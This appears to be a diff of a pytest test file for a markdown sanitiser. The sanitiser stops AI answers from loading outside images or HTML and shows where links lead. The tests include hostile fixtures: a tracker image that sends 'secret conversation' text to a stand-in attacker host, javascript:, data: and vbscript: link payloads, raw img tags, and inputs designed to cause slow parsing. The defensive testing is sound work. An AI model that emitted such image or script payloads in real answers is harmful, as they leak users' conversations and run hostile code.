@@ -1,44 +1,216 @@
-"""Answers render without loading outside images or HTML, and links show where they go."""
+"""Answers render without loading outside images or HTML, read well, and links show where they go."""
 
 from __future__ import annotations
 
-from components.ui.markdown_safety import safe_markdown, stream_safely
+import re
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from components.ui.markdown_safety import safe_markdown, safe_partial_markdown, stream_safely
 
 TRACKER = "![x](https://evil.example/p.png?q=secret+conversation)"
 
+# Output fragments that would make the renderer load or link something it should not.
+_IMAGE = re.compile(r"(?<!\\)!\[")
+_CODE_SPAN = re.compile(r"(`+)(?!`).*?(?<!`)\1(?!`)", re.DOTALL)
+_FENCED = re.compile(r"^(`{3,}).*?(?:^\1\s*$|\Z)", re.DOTALL | re.MULTILINE)
 
-def test_image_link_in_answer_cannot_load():
+
+def _outside_code(markdown: str) -> str:
+    """What is left once code and the addresses of our own links are taken out."""
+    return re.sub(r"\]\(<[^<>]*>\)", "]", _CODE_SPAN.sub("", _FENCED.sub("", markdown)))
+
+
+def _links(markdown: str) -> list[str]:
+    """The addresses of the explicit links in rendered output (ours are always ``(<…>)``)."""
+    return re.findall(r"\]\(<([^<>]*)>\)", _CODE_SPAN.sub("", _FENCED.sub("", markdown)))
+
+
+# --- images ---------------------------------------------------------------------------------
+
+
+def test_image_becomes_a_muted_placeholder_with_alt_text_and_address_as_code():
     out = safe_markdown(f"Here you go {TRACKER} done")
-    assert "![x](" not in out
-    assert "!\\[x](" in out  # shown as text, address visible
+    assert out == (
+        "Here you go :gray[🖼️ *x* `https://evil.example/p.png?q=secret+conversation`] done"
+    )
 
 
-def test_reference_style_image_cannot_load():
+def test_image_address_is_never_a_link():
+    out = safe_markdown("![logo](https://evil.example/logo.png)")
+    assert _links(out) == []
+    assert "https://evil.example/logo.png" not in _outside_code(out)
+
+
+def test_image_alt_text_that_looks_like_an_address_is_not_auto_linked():
+    out = safe_markdown("![https://evil.example/a.png](https://evil.example/a.png)")
+    # The renderer auto-links "https://" in plain text; a word joiner breaks the pattern.
+    assert "https://evil" not in _outside_code(out)
+    assert "https\u2060://evil.example/a.png" in out
+
+
+def test_image_with_title_or_angle_brackets_shows_the_clean_address():
+    assert "`https://e.org/a b.png`" in safe_markdown('![a](<https://e.org/a b.png> "t")')
+    assert "`https://e.org/a.png`" in safe_markdown("![a](https://e.org/a.png 'title')")
+
+
+def test_reference_style_image_becomes_a_placeholder_and_its_definition_goes():
     out = safe_markdown("![logo][1]\n\n[1]: https://evil.example/t.gif")
-    assert "![logo]" not in out
+    assert out.startswith(":gray[🖼️ *logo* `https://evil.example/t.gif`]")
+    assert "[1]:" not in out
 
 
-def test_raw_html_image_is_shown_as_text():
+def test_image_reference_to_nothing_stays_literal_text():
+    out = safe_markdown("![logo][nowhere] and ![alone]")
+    assert not _IMAGE.search(out)
+
+
+def test_image_inside_a_link_is_a_placeholder_and_the_link_shows_its_address():
+    out = safe_markdown("[![build](https://ci.example/b.svg)](https://ci.example/run)")
+    assert not _IMAGE.search(out)
+    assert "`https://ci.example/b.svg`" in out
+    assert _links(out) == ["https://ci.example/run"]
+
+
+def test_bang_before_anything_that_becomes_a_link_cannot_make_an_image():
+    for text in ("x!https://a.org", "x!<https://a.org>", "x![](https://a.org)"):
+        assert not _IMAGE.search(safe_markdown(text)), text
+
+
+def test_address_with_brackets_or_backticks_stays_inside_the_placeholder():
+    out = safe_markdown("![a](https://e.org/x]y`z.png)")
+    assert out.startswith(":gray[") and out.endswith("]")
+    assert "%5D" in out and "``https://e.org/x%5Dy`z.png``" in out
+
+
+# --- raw HTML -------------------------------------------------------------------------------
+
+
+def test_inline_html_is_shown_as_code():
     out = safe_markdown('look <img src="https://evil.example/t.gif"> here')
-    assert "<img" not in out and "&lt;img" in out
+    assert out == 'look `<img src="https://evil.example/t.gif">` here'
+
+
+def test_html_block_is_shown_as_a_fenced_code_block():
+    out = safe_markdown("<div>\n<p>hi</p>\n</div>\n\nafter")
+    assert out == "```html\n<div>\n<p>hi</p>\n</div>\n```\n\nafter"
+
+
+def test_html_comment_is_shown_not_hidden():
+    assert safe_markdown("a <!-- secret --> b") == "a `<!-- secret -->` b"
+
+
+def test_unfinished_tag_cannot_become_html():
+    out = safe_markdown("text <img\nsrc=x")
+    assert "\\<img" in out
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<a href="https://e.org/d?a=1&amp;b=2">docs</a>',
+        "<a href='https://e.org/d?a=1&amp;b=2'>docs</a>",
+        "<a href=https://e.org/d?a=1&amp;b=2>docs</a>",
+        '<A class="x" HREF = "https://e.org/d?a=1&amp;b=2" >docs</A>',
+    ],
+)
+def test_html_link_shows_its_text_and_clean_address_as_code(html):
+    out = safe_markdown(f"see {html}。")
+    assert out == "see docs (`https://e.org/d?a=1&b=2`)。"
+    assert "%22" not in out and '">' not in out
+
+
+def test_html_link_whose_text_is_its_address_is_shown_once():
+    assert safe_markdown('<a href="https://e.org">https://e.org</a>') == "`https://e.org`"
+
+
+# --- links ----------------------------------------------------------------------------------
 
 
 def test_link_shows_its_address():
     out = safe_markdown("see [the docs](https://example.org/docs) for more")
-    assert out == "see the docs ([https://example.org/docs](https://example.org/docs)) for more"
+    assert out == "see the docs ([https://example.org/docs](<https://example.org/docs>)) for more"
 
 
 def test_link_whose_text_is_its_address_is_shown_once():
-    assert safe_markdown("[https://a.org](https://a.org)。") == "[https://a.org](https://a.org)。"
+    assert safe_markdown("[https://a.org](https://a.org)。") == "[https://a.org](<https://a.org>)。"
 
 
-def test_code_blocks_and_inline_code_are_untouched():
-    text = "```html\n<img src=x>\n![a](b)\n```\nuse `![a](b)` literally"
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[t](https://e.org/p_(x))",
+        "[t](<https://e.org/p_(x)>)",
+        '[t](https://e.org/p_(x) "title")',
+        "[t](https://e.org/p_(x) 'title')",
+        "[t][r]\n\n[r]: https://e.org/p_(x)",
+        '[t][]\n\n[T]: <https://e.org/p_(x)> "title"',
+        "[t]\n\n[t]: https://e.org/p_(x)",
+    ],
+)
+def test_link_address_is_extracted_from_every_form(text):
+    out = safe_markdown(text)
+    assert _links(out) == ["https://e.org/p_(x)"], out
+    assert out.startswith("t (")
+
+
+def test_autolink_and_bare_urls_stop_where_the_address_ends():
+    out = safe_markdown("见 <https://a.org/x>，或 https://b.org/y。还有 (https://c.org/z).")
+    assert _links(out) == ["https://a.org/x", "https://b.org/y", "https://c.org/z"]
+    assert out.endswith("(<https://c.org/z>)).")
+
+
+def test_bare_www_address_links_over_http():
+    assert _links(safe_markdown("go to www.example.com!")) == ["http://www.example.com"]
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x", "vbscript:msgbox(1)"],
+)
+def test_dangerous_schemes_are_shown_as_code_not_links(url):
+    for text in (f"[click]({url})", f"<{url}>", f'<a href="{url}">click</a>'):
+        out = safe_markdown(text)
+        assert _links(out) == [], out
+        assert f"`{url}`" in out
+
+
+def test_link_with_spaces_gets_a_working_href():
+    assert _links(safe_markdown("[t](<https://e.org/a b>)")) == ["https://e.org/a%20b"]
+
+
+def test_task_lists_and_citations_survive():
+    text = "- [ ] todo\n- [x] done\n\nas said in [1]."
     assert safe_markdown(text) == text
 
 
-def test_comparison_signs_survive():
-    assert safe_markdown("1 < 2 and 3 > 2") == "1 < 2 and 3 > 2"
+# --- what is kept ---------------------------------------------------------------------------
+
+
+def test_code_blocks_and_inline_code_are_untouched():
+    text = "```html\n<img src=x>\n![a](b)\n```\nuse `![a](b)` literally, or ``<b>`x`</b>``"
+    assert safe_markdown(text) == text
+
+
+def test_unclosed_fence_keeps_the_rest_as_code():
+    text = "```\n<img src=x>\n![a](b)"
+    assert safe_markdown(text) == text
+
+
+def test_comparison_signs_and_ordinary_markdown_survive():
+    text = "1 < 2 and 3 > 2\n\n**bold**, _it_, # not a tag\n\n| a | b |\n|---|---|\n| 1 | 2 |"
+    assert safe_markdown(text) == text
+
+
+def test_backslash_escaped_bang_leaves_a_link_not_an_image():
+    out = safe_markdown("\\![t](https://e.org)")
+    assert out == "\\!t ([https://e.org](<https://e.org>))"
+
+
+# --- streaming ------------------------------------------------------------------------------
 
 
 def test_streamed_view_never_contains_a_loadable_image():
@@ -46,10 +218,127 @@ def test_streamed_view_never_contains_a_loadable_image():
     shown = ""
     for delta in stream_safely(pieces):
         shown += delta
-        assert "![" not in shown and "<img" not in shown
-    assert "evil.example/p.png" in shown  # the text itself still arrives
+        assert not _IMAGE.search(shown) and "<img" not in _outside_code(shown)
+    assert "`https://evil.example/p.png`" in shown  # the placeholder, once complete
 
 
 def test_streamed_deltas_add_up_to_the_answer_text():
     pieces = ["你好", "，这是", "一张橙子的", "图标。"]
     assert "".join(stream_safely(pieces)) == "你好，这是一张橙子的图标。"
+
+
+@pytest.mark.parametrize(
+    ("partial", "shown"),
+    [
+        ("look ![lo", "look "),
+        ("look ![logo](http://e.org/x", "look "),
+        ("look <img sr", "look "),
+        ("look [docs](https://e.org/d", "look "),
+        ("look [docs]", "look "),
+        ("look https://e.org/pa", "look "),
+        ("wow!", "wow"),
+        ("see [1] and ![x](https://e.org/x.png) then", None),
+    ],
+)
+def test_unfinished_construct_is_held_back_in_the_live_view(partial, shown):
+    expected = safe_markdown(partial if shown is None else shown)
+    assert safe_partial_markdown(partial) == expected
+
+
+def test_live_view_of_a_finished_answer_is_the_final_render():
+    text = "a ![x](https://e.org/x.png) b <b>c</b> [d](https://e.org) e"
+    assert safe_partial_markdown(text) == safe_markdown(text)
+
+
+# --- properties -----------------------------------------------------------------------------
+
+_PIECES = st.sampled_from(
+    [
+        "![",
+        "!",
+        "[",
+        "]",
+        "(",
+        ")",
+        "<",
+        ">",
+        "`",
+        "``",
+        "```\n",
+        "\n",
+        "\n\n",
+        "\\",
+        '"',
+        "'",
+        " ",
+        "img",
+        "a href=",
+        "src=",
+        "http://t.example/x.png",
+        "https://t.example/",
+        "www.t.example",
+        "javascript:x",
+        "[r]: http://t.example/r.png\n",
+        "[r]",
+        "<!--",
+        "-->",
+        "看",
+        "。",
+        "x",
+    ]
+)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(_PIECES, max_size=40).map("".join))
+def test_no_output_can_load_an_image_or_carry_raw_html(text):
+    out = safe_markdown(text)
+    outside = _outside_code(out)
+    assert not _IMAGE.search(outside), (text, out)
+    assert not re.search(r"(?<!\\)<[A-Za-z/!?]", outside), (text, out)
+    for address in _links(out):
+        assert re.match(r"(?i)(https?://|mailto:)", address), (text, out)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(_PIECES, max_size=40).map("".join))
+def test_live_views_are_as_safe_as_the_final_one(text):
+    for cut in range(0, len(text) + 1, max(1, len(text) // 8)):
+        outside = _outside_code(safe_partial_markdown(text[:cut]))
+        assert not _IMAGE.search(outside)
+        assert not re.search(r"(?<!\\)<[A-Za-z/!?]", outside)
+
+
+_HOSTILE = {
+    "brackets": "[" * 1000 + "x" + "]" * 1000 + "(",
+    "nested": "[[x](" * 500,
+    "backticks": "`" + "``" * 500 + " ",
+    "images": "![a](<" * 300,
+    "tags": '<a href="' * 300,
+    "comments": "<!-- " * 300,
+    "urls": "http://x." * 300 + "(",
+    "escapes": "\\" * 999 + "![",
+}
+
+
+@pytest.mark.timeout(120)
+@pytest.mark.parametrize("name", sorted(_HOSTILE))
+def test_hostile_input_takes_linear_time(name):
+    unit = _HOSTILE[name]
+
+    def seconds(size: int) -> float:
+        text = (unit * (size // len(unit) + 1))[:size]
+        start = time.perf_counter()
+        safe_markdown(text)
+        safe_partial_markdown(text)
+        return time.perf_counter() - start
+
+    small, large = seconds(100_000), seconds(1_000_000)
+    # Ten times the input: linear work takes about ten times as long, quadratic a hundred.
+    assert large < 30 * small + 0.5, (name, small, large)
+
+
+def test_line_break_tags_become_line_breaks_not_code():
+    assert safe_markdown("one<br>two<br/>\nthree") == "one\\\ntwo\\\nthree"
+    table = "| a | b |\n|---|---|\n| 1<br>2 | 3 |"
+    assert safe_markdown(table) == "| a | b |\n|---|---|\n| 1 / 2 | 3 |"
